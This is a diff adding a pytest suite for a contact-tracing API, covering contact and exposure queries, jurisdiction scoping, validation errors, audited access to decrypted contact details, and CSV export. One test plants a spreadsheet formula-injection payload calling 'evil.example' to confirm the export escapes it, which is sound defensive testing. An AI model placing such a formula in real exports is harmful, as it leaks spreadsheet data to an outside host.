@@ -1,0 +1,449 @@
+"""Contact tracing through the API, against a brute-force reference of DESIGN.md's definitions."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import random
+from typing import Any
+
+import pytest
+import redis.asyncio as aioredis
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hsettings
+from hypothesis import strategies as st
+from litestar.testing import AsyncTestClient
+
+from checkin.auth import create_api_key
+from checkin.context import Context
+from checkin.settings import Settings
+from tests.conftest import REDIS_URL, admin_headers
+from tests.test_trace_reference import (
+    COMMUNITIES,
+    HOUR_MS,
+    MIN_MS,
+    World,
+    build_world,
+    iso,
+    load,
+    random_world,
+    reference_contacts,
+    reference_exposures,
+)
+from tracing.store import Store
+
+
+def _base_ms() -> int:
+    now = dt.datetime.now(dt.UTC).replace(minute=0, second=0, microsecond=0) - dt.timedelta(days=3)
+    return int(now.timestamp()) * 1000
+
+
+async def make_key(settings: Settings, role: str, scope: str = "") -> dict[str, str]:
+    client = aioredis.Redis.from_url(REDIS_URL)
+    try:
+        ctx = Context.build(settings, client, "test")
+        key, _ = await create_api_key(ctx, role, f"{role} key", scope, None, "test")
+    finally:
+        await client.aclose()
+    return {"Authorization": f"Bearer {key}"}
+
+
+async def contacts_api(
+    client: AsyncTestClient[Any],
+    headers: dict[str, str],
+    person: int,
+    since: int,
+    until: int,
+    minutes: int,
+    depth: int,
+) -> dict[str, Any]:
+    r = await client.post(
+        "/v1/trace/contacts",
+        json={
+            "person_id": person,
+            "since": iso(since),
+            "until": iso(until),
+            "depth": depth,
+            "min_overlap_minutes": minutes,
+            "reason": "case 42 follow-up",
+        },
+        headers=headers,
+    )
+    if r.status_code == 404:
+        return {"contacts": [], "second_degree": [], "status": 404}
+    assert r.status_code == 200, r.text
+    return dict(r.json())
+
+
+async def exposures_api(
+    client: AsyncTestClient[Any], headers: dict[str, str], sites: list[tuple[int, int, int]]
+) -> list[dict[str, Any]]:
+    r = await client.post(
+        "/v1/trace/exposures",
+        json={
+            "sites": [{"venue_id": v, "since": iso(a), "until": iso(b)} for v, a, b in sites],
+            "reason": "exposure screening",
+        },
+        headers=headers,
+    )
+    assert r.status_code == 200, r.text
+    return list(r.json()["exposures"])
+
+
+async def check_world(
+    client: AsyncTestClient[Any],
+    headers: dict[str, str],
+    world: World,
+    rng: random.Random,
+    scope: str = "",
+    persons: int = 4,
+) -> int:
+    """Compare the API with the reference for a few index persons, windows and minimum overlaps."""
+    compared = 0
+    for person in rng.sample(world.persons, min(persons, len(world.persons))):
+        since = world.base_ms + rng.randrange(-2, 20) * HOUR_MS
+        until = since + rng.randrange(1, 40) * HOUR_MS
+        minutes = rng.choice([0, 1, 15, 15, 30])
+        got = await contacts_api(client, headers, person, since, until, minutes, 2)
+        first, second = reference_contacts(world, person, since, until, minutes, 2, scope)
+        assert got["contacts"] == first, (person, since, until, minutes)
+        assert got["second_degree"] == second, (person, since, until, minutes)
+        if got.get("status") == 404:
+            assert not any(s.person_id == person and s.community.startswith(scope) for s in world.stays)
+        got1 = await contacts_api(client, headers, person, since, until, minutes, 1)
+        assert got1["contacts"] == first and got1["second_degree"] == []
+        compared += len(first) + len(second)
+    venues = [v for v, (_dwell, community) in world.venues.items() if community.startswith(scope)]
+    if not venues:
+        return compared
+    sites = []
+    for _ in range(rng.randrange(1, 4)):
+        start = world.base_ms + rng.randrange(0, 36 * 60) * MIN_MS
+        sites.append((rng.choice(venues), start, start + rng.randrange(1, 300) * MIN_MS))
+    assert await exposures_api(client, headers, sites) == reference_exposures(world, sites, scope)
+    return compared
+
+
+async def test_contacts_and_exposures_match_the_reference_on_seeded_worlds(
+    tracing: AsyncTestClient[Any], store: Store, settings: Settings
+) -> None:
+    headers = await make_key(settings, "tracer")
+    compared = 0
+    for seed in range(6):
+        rng = random.Random(seed)
+        world = random_world(rng, _base_ms(), n_venues=rng.randrange(2, 7), n_persons=rng.randrange(5, 30))
+        load(store, world)
+        compared += await check_world(tracing, headers, world, rng)
+    assert compared > 20  # the worlds are dense enough that contacts are actually compared
+
+
+async def test_a_scoped_tracer_sees_only_stays_in_its_jurisdiction(
+    tracing: AsyncTestClient[Any], store: Store, settings: Settings
+) -> None:
+    scope = COMMUNITIES[0][:9]
+    headers = await make_key(settings, "tracer", scope)
+    for seed in range(3):
+        rng = random.Random(100 + seed)
+        world = random_world(rng, _base_ms(), n_venues=6, n_persons=12, n_checkins=80)
+        load(store, world)
+        await check_world(tracing, headers, world, rng, scope=scope)
+    # a site outside the jurisdiction is refused, not silently empty
+    outside = next(v for v, (_d, c) in world.venues.items() if not c.startswith(scope))
+    r = await tracing.post(
+        "/v1/trace/exposures",
+        json={
+            "sites": [
+                {"venue_id": outside, "since": iso(world.base_ms), "until": iso(world.base_ms + HOUR_MS)}
+            ],
+            "reason": "x",
+        },
+        headers=headers,
+    )
+    assert r.status_code == 403 and "jurisdiction" in r.json()["detail"]
+
+
+@st.composite
+def worlds(draw: st.DrawFn) -> World:
+    base = _base_ms()
+    n_venues = draw(st.integers(1, 4))
+    venues = {
+        500 + v: (draw(st.sampled_from([15, 30, 60, 120, 720])), draw(st.sampled_from(COMMUNITIES)))
+        for v in range(n_venues)
+    }
+    person = st.integers(1, 8)
+    checkin = st.tuples(
+        st.sampled_from(sorted(venues)),
+        st.lists(person, min_size=1, max_size=3),
+        st.integers(0, 24 * 60).map(lambda m: base + m * MIN_MS)
+        | st.integers(0, 24 * 3600 * 1000).map(lambda ms: base + ms),
+        st.none() | st.integers(1, 12 * 60).map(lambda m: m * MIN_MS) | st.integers(1, 12 * HOUR_MS),
+    )
+    return build_world(base, venues, draw(st.lists(checkin, min_size=1, max_size=25)))
+
+
+@hsettings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(world=worlds(), seed=st.integers(0, 2**16))
+async def test_contacts_match_the_reference_on_generated_worlds(
+    tracing: AsyncTestClient[Any], store: Store, world: World, seed: int
+) -> None:
+    load(store, world)
+    rng = random.Random(seed)
+    await check_world(tracing, admin_headers(), world, rng, persons=2)
+
+
+# --- single behaviours ---------------------------------------------------------------------------
+
+
+@pytest.fixture
+def small_world(store: Store) -> World:
+    base = _base_ms()
+    world = build_world(
+        base,
+        {7: (60, COMMUNITIES[0]), 8: (60, COMMUNITIES[2])},
+        [
+            (7, [1], base, None),
+            (7, [2], base + 30 * MIN_MS, None),
+            (7, [3], base + 50 * MIN_MS, None),
+            (8, [2, 4], base + 100 * MIN_MS, 20 * MIN_MS),
+        ],
+    )
+    load(store, world)
+    return world
+
+
+async def test_visits_timeline_reads_checkouts_as_one_stay(
+    tracing: AsyncTestClient[Any], small_world: World, settings: Settings
+) -> None:
+    headers = await make_key(settings, "tracer")
+    base = small_world.base_ms
+    r = await tracing.get(
+        "/v1/trace/persons/2/visits",
+        params={"since": iso(base - HOUR_MS), "until": iso(base + 24 * HOUR_MS), "reason": "case 42"},
+        headers=headers,
+    )
+    assert r.status_code == 200, r.text
+    visits = r.json()["visits"]
+    assert [(v["venue_id"], v["at"], v["end_at"], v["checked_out"]) for v in visits] == [
+        (7, iso(base + 30 * MIN_MS), iso(base + 90 * MIN_MS), False),
+        (8, iso(base + 100 * MIN_MS), iso(base + 120 * MIN_MS), True),
+    ]
+    # the window selects stays by their start
+    r = await tracing.get(
+        "/v1/trace/persons/2/visits",
+        params={"since": iso(base + 31 * MIN_MS), "until": iso(base + 24 * HOUR_MS), "reason": "case 42"},
+        headers=headers,
+    )
+    assert [v["venue_id"] for v in r.json()["visits"]] == [8]
+
+
+async def test_roles_and_bad_input_get_clear_problems(
+    tracing: AsyncTestClient[Any], small_world: World, settings: Settings
+) -> None:
+    tracer = await make_key(settings, "tracer")
+    analyst = await make_key(settings, "analyst")
+    base = small_world.base_ms
+    body = {"person_id": 1, "since": iso(base), "until": iso(base + HOUR_MS), "reason": "case 42"}
+
+    async def problem(expected: int, r: Any, words: str) -> None:
+        assert r.status_code == expected, r.text
+        assert r.headers["content-type"] == "application/problem+json"
+        assert words in r.json()["detail"], r.json()["detail"]
+
+    await problem(401, await tracing.post("/v1/trace/contacts", json=body), "Authorization")
+    await problem(403, await tracing.post("/v1/trace/contacts", json=body, headers=analyst), "tracer")
+    await problem(
+        400,
+        await tracing.post("/v1/trace/contacts", json={**body, "reason": " "}, headers=tracer),
+        "reason is required",
+    )
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/contacts", json={k: v for k, v in body.items() if k != "reason"}, headers=tracer
+        ),
+        "reason is required",
+    )
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/contacts", json={**body, "since": iso(base + 2 * HOUR_MS)}, headers=tracer
+        ),
+        "must be before",
+    )
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/contacts", json={**body, "since": iso(base - 61 * 24 * HOUR_MS)}, headers=tracer
+        ),
+        "at most 60 days",
+    )
+    await problem(
+        400,
+        await tracing.post("/v1/trace/contacts", json={**body, "since": "yesterday"}, headers=tracer),
+        "since",
+    )
+    await problem(
+        400, await tracing.post("/v1/trace/contacts", json={**body, "depth": 3}, headers=tracer), "depth"
+    )
+    await problem(
+        404,
+        await tracing.post("/v1/trace/contacts", json={**body, "person_id": 999}, headers=tracer),
+        "no stays recorded for person 999",
+    )
+    await problem(
+        404,
+        await tracing.get("/v1/trace/persons/999/visits", params={"reason": "x"}, headers=tracer),
+        "person 999",
+    )
+    await problem(
+        400,
+        await tracing.get("/v1/trace/persons/-5/visits", params={"reason": "x"}, headers=tracer),
+        "person_id",
+    )
+    await problem(400, await tracing.get("/v1/trace/persons/1/visits", headers=tracer), "reason is required")
+    await problem(
+        400,
+        await tracing.get(
+            "/v1/trace/persons/1/visits", params={"reason": "x", "since": "2026-13-01"}, headers=tracer
+        ),
+        "since",
+    )
+    site = {"venue_id": 7, "since": iso(base), "until": iso(base + HOUR_MS)}
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/exposures", json={"sites": [site] * 101, "reason": "x"}, headers=tracer
+        ),
+        "too many sites",
+    )
+    await problem(
+        400,
+        await tracing.post("/v1/trace/exposures", json={"sites": [], "reason": "x"}, headers=tracer),
+        "at least one",
+    )
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/exposures",
+            json={"sites": [{**site, "until": iso(base)}], "reason": "x"},
+            headers=tracer,
+        ),
+        "sites[0]",
+    )
+    await problem(
+        400,
+        await tracing.post(
+            "/v1/trace/exposures",
+            params={"format": "xlsx"},
+            json={"sites": [site], "reason": "x"},
+            headers=tracer,
+        ),
+        "format",
+    )
+    await problem(403, await tracing.get("/v1/audit", headers=tracer), "admin")
+
+
+async def test_csv_export_neutralises_spreadsheet_formulas(
+    tracing: AsyncTestClient[Any], store: Store, small_world: World, settings: Settings
+) -> None:
+    tracer = await make_key(settings, "tracer")
+    now = dt.datetime.now(dt.UTC)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    store.insert(
+        "venues",
+        ["venue_id", "name", "district", "street", "community", "dwell_minutes", "updated_at"],
+        [
+            [7, evil, "620102", "620102001", COMMUNITIES[0], 60, now],
+            [8, "@SUM(1+1)", "620103", "620103002", COMMUNITIES[2], 60, now],
+        ],
+        column_oriented=False,
+    )
+    base = small_world.base_ms
+    sites = [
+        {"venue_id": 7, "since": iso(base), "until": iso(base + HOUR_MS)},
+        {"venue_id": 8, "since": iso(base), "until": iso(base + 3 * HOUR_MS)},
+    ]
+    r = await tracing.post(
+        "/v1/trace/exposures", params={"format": "csv"}, json={"sites": sites, "reason": "x"}, headers=tracer
+    )
+    assert r.status_code == 200, r.text
+    assert r.headers["content-type"].startswith("text/csv")
+    assert "attachment" in r.headers["content-disposition"]
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert rows[0] == ["person_id", "venue_id", "venue_name", "first_at_venue", "first_at"]
+    by_key = {(row[0], row[1]): row for row in rows[1:]}
+    assert by_key[("1", "7")][2] == "'" + evil
+    assert by_key[("4", "8")][2] == "'@SUM(1+1)"
+    assert {k[0] for k in by_key} == {"1", "2", "3", "4"}
+    assert by_key[("2", "8")][3] == iso(base + 100 * MIN_MS) and by_key[("2", "8")][4] == iso(
+        base + 30 * MIN_MS
+    )
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    # the timeline carries the venue name as stored (JSON is not a spreadsheet)
+    r = await tracing.get("/v1/trace/persons/1/visits", params={"reason": "x"}, headers=tracer)
+    assert r.json()["visits"][0]["venue_name"] == evil
+
+
+async def test_csv_cell_rules() -> None:
+    from tracing.trace_api import csv_cell
+
+    for raw in ["=1+1", "+1", "-1", "@x", "\tx", "\rx"]:
+        assert csv_cell(raw) == "'" + raw
+    assert csv_cell("plain") == "plain" and csv_cell(12) == "12" and csv_cell(None) == ""
+
+
+async def test_contact_details_are_decrypted_for_tracers_and_audited(
+    tracing: AsyncTestClient[Any], store: Store, settings: Settings
+) -> None:
+    from checkin import residents
+
+    client = aioredis.Redis.from_url(REDIS_URL)
+    try:
+        ctx = Context.build(settings, client, "test")
+        reg = await residents.register(
+            ctx, residents.RegisterIn(name="Li Lei", phone="13800138000", id_number="11010519491231002X")
+        )
+        details = await residents.contact_details(ctx, reg.person_id)
+    finally:
+        await client.aclose()
+    assert details is not None
+    person = reg.person_id
+    tracer = await make_key(settings, "tracer")
+    r = await tracing.get(f"/v1/trace/persons/{person}/contact-details", headers=tracer)
+    assert r.status_code == 400 and "reason" in r.json()["detail"]
+    r = await tracing.get(
+        f"/v1/trace/persons/{person}/contact-details", params={"reason": "call case 42"}, headers=tracer
+    )
+    assert r.status_code == 200, r.text
+    assert r.json() == {"person_id": person, "name": "Li Lei", "phone": details.phone}
+    assert details.phone.endswith("13800138000")  # decrypted, not the stored ciphertext
+    r = await tracing.get(
+        f"/v1/trace/persons/{person + 10_000}/contact-details", params={"reason": "typo"}, headers=tracer
+    )
+    assert r.status_code == 404
+    # a scoped tracer gets the details only of persons with a stay in its jurisdiction
+    base = _base_ms()
+    load(store, build_world(base, {7: (60, COMMUNITIES[2])}, [(7, [person], base, None)]))
+    scoped = await make_key(settings, "tracer", COMMUNITIES[0][:9])
+    r = await tracing.get(
+        f"/v1/trace/persons/{person}/contact-details", params={"reason": "x"}, headers=scoped
+    )
+    assert r.status_code == 404 and "jurisdiction" in r.json()["detail"]
+    r = await tracing.get("/v1/audit", params={"action": "contact_details"}, headers=admin_headers())
+    entries = r.json()["entries"]
+    assert [(e["reason"], e["rows"]) for e in entries] == [("x", 0), ("typo", 0), ("call case 42", 1)]
+    assert entries[2]["params"] == {"person_id": person}
+    assert entries[1]["params"]["outcome"] == "not_found"
+
+
+async def test_an_overlap_of_exactly_the_minimum_qualifies(
+    tracing: AsyncTestClient[Any], small_world: World
+) -> None:
+    base = small_world.base_ms
+    got = await contacts_api(tracing, admin_headers(), 1, base, base + HOUR_MS, 10, 1)
+    assert [(c["person_id"], c["overlap_seconds"]) for c in got["contacts"]] == [(2, 1800.0), (3, 600.0)]
+    got = await contacts_api(tracing, admin_headers(), 1, base, base + HOUR_MS, 11, 1)
+    assert [c["person_id"] for c in got["contacts"]] == [2]
